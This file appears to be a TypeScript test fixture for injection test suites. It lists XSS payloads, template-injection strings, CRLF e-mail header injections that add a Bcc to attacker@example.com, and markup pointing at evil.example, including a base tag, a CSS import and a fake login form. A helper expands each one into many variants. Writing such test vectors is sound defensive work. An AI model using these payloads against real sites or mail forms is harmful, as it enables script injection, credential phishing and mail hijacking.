// Hostile strings for the injection suites: the server's, into stored data and e-mails,
// and the browser's, into pages. Script tags, event handlers, javascript: links, broken and nested
// markup, encodings, template syntax and header line breaks.

export const HOSTILE_VECTORS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">click</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<object data="javascript:alert(1)"></object>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css";</style>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u003cimg src=x onerror=alert(1)\u003e',
  'Acme\r\nBcc: attacker@example.com',
  'Acme\nSubject: hijacked',
  '<form action="//evil.example"><button>Log in</button></form>',
];

/** Each vector as it is, after ordinary text, in capitals, and inside quotes: over a hundred. */
export const HOSTILE_STRINGS = HOSTILE_VECTORS.flatMap((vector) => [
  vector,
  `Harbour Bakery ${vector}`,
  vector.toUpperCase(),
  `"${vector}"`,
]);
